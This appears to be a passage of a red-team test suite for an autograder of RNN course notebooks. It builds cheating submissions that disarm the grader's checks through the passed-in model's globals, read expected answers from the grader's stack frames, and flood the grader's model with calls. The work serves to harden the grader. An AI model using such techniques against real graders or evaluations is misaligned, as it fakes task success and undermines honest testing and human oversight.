    """ex09: the grader's model called 200 000 times and with arguments it never expects."""
    nb = filled_in(a)
    return set_cell(
        nb,
        "sample_text",
        dedent("""
        def sample_text(step_fn, vocab, prompt, max_len, temperature, rng):
            for bogus in ((10**12, None), (-1, "state"), (0, [[[]]]), ("a", 10**100)):
                try:
                    step_fn(*bogus)
                except Exception:
                    pass
            for _ in range(200000):
                step_fn(0, None)
            return 0
        """),
    )


ATTACKS["ex04_bptt"] = [
    Attack("patch_setattr", "patching the checks", patch_setattr),
    Attack("rebind_grading", "patching the checks", rebind_grading),
    Attack("patch_builtins", "patching the checks", patch_builtins),
    Attack("input_transformer", "IPython hooks", input_transformer),
    Attack("custom_exc", "IPython hooks", custom_exc),
    Attack("bptt_steal", "stack inspection", bptt_steal),
    Attack("bptt_thread", "reference by another route", bptt_thread),
    Attack("bptt_fork", "reference by another route", bptt_fork),
    Attack("pasted_reference", "copying", pasted_reference, targets=(), flag=True),
    Attack("copy_model", "copying", copy_model, targets=(), flag=True),
]
ATTACKS["ex09_sampling"] = [
    Attack("patch_setattr", "patching the checks", patch_setattr),
    Attack(
        "callback_globals",
        "callbacks into the grader",
        callback_globals,
        targets=("sample_text_values",),
    ),  # fmt: skip
    Attack(
        "callback_steal", "callbacks into the grader", callback_steal, targets=("sample_text_*",)
    ),  # fmt: skip
]

ATTACKS["ex09_sampling"].append(
    Attack("callback_flood", "callbacks into the grader", callback_flood, ("sample_text_*",))
)
# ex10: the generic attacks on the checks, against the minibatcher's property parts and the
# variational RNN's backward check with its masks held fixed
ATTACKS["ex10_training_practice"] = [
    Attack("patch_setattr", "patching the checks", patch_setattr),
    Attack("rebind_grading", "patching the checks", rebind_grading),
    Attack("patch_builtins", "patching the checks", patch_builtins),
    Attack("input_transformer", "IPython hooks", input_transformer),
    Attack("custom_exc", "IPython hooks", custom_exc),
]
ATTACKS["ex02_rnn_cell"] += [
    Attack("huge_return", "the process boundary", huge_return),
    Attack("symlink_plant", "the process boundary", symlink_plant),
]


# --- ex11: beam search calls the grader's model back; the attention backward's expected grads
BEAM_HEAD = (
    "def beam_search(step_fn, state0, bos_id, eos_id, beam_width, max_len, length_penalty=0.0):"
)


def beam_globals(a, ctx):
    """ex11: the grader's namespace reached through the model it passed in, checks disarmed."""
    return set_cell(
        filled_in(a),
        "beam_search",
        dedent(f"""
        {BEAM_HEAD}
            space = getattr(step_fn, "__globals__", {{}})
            driver = getattr(space.get("check_function"), "__globals__", {{}})
            for ns in (space, driver):
                for name in ("values", "compare", "compare_ranked"):
                    if name in ns:
                        ns[name] = lambda *args, **kwargs: None
            return [([eos_id], 0.0)]
        """),
    )


def beam_steal(a, ctx):
    """ex11: the expected ranked list read from the grader's frames."""
    return set_cell(
        filled_in(a),
        "beam_search",
        FRAME_THIEF
        + dedent(f"""
        {BEAM_HEAD}
            exp = _from_frames(sys._getframe(1), ("expected",),
                               lambda e: isinstance(e, tuple) and e and isinstance(e[0], list))
            return exp[0] if exp else 0
        """),
    )


def beam_flood(a, ctx):
    """ex11: the grader's model called 200 000 times, and with arguments it never expects."""
    return set_cell(
        filled_in(a),
        "beam_search",
        dedent(f"""
        {BEAM_HEAD}
            for bogus in ((np.arange(10**6), state0), (np.array([10**12]), state0),
                          (np.array([0]), ("state",)), ([[[]]], None), ("a", 10**100)):
                try:
                    step_fn(*bogus)
                except Exception:
                    pass
            for _ in range(200000):
                step_fn(np.array([bos_id]), state0)
            return 0
        """),
    )


STEAL_ATTENTION = (
    FRAME_THIEF
    + """
def additive_attention_backward(dcontext, dalpha, cache):
    return _from_frames(sys._getframe(1), ("exp_grads",),
                        lambda e: isinstance(e, (tuple, list)) and len(e) == 3)
"""
)


def attention_steal(a, ctx):
    return set_cell(filled_in(a), "additive_attention_backward", dedent(STEAL_ATTENTION))


ATTACKS["ex11_seq2seq_attention"] = [
    Attack("patch_setattr", "patching the checks", patch_setattr),
    Attack("attention_steal", "stack inspection", attention_steal,
           targets=("additive_attention_backward_*",), keeps=("beam_search_*",)),
    Attack("beam_globals", "callbacks into the grader", beam_globals,
           targets=("beam_search_best", "beam_search_values"),
           keeps=("additive_attention_*",)),
    Attack("beam_steal", "callbacks into the grader", beam_steal, targets=("beam_search_*",)),
    Attack("beam_flood", "callbacks into the grader", beam_flood, targets=("beam_search_*",),
           keeps=("additive_attention_*",)),
]  # fmt: skip

# RNNBOOK_REDTEAM_SKIP=name,name leaves attacks out (to see each attack's own effect on a
# grader that lets one submission damage the others)
_SKIP = set(filter(None, __import__("os").environ.get("RNNBOOK_REDTEAM_SKIP", "").split(",")))
ATTACKS = {a: [x for x in attacks if x.name not in _SKIP] for a, attacks in ATTACKS.items()}
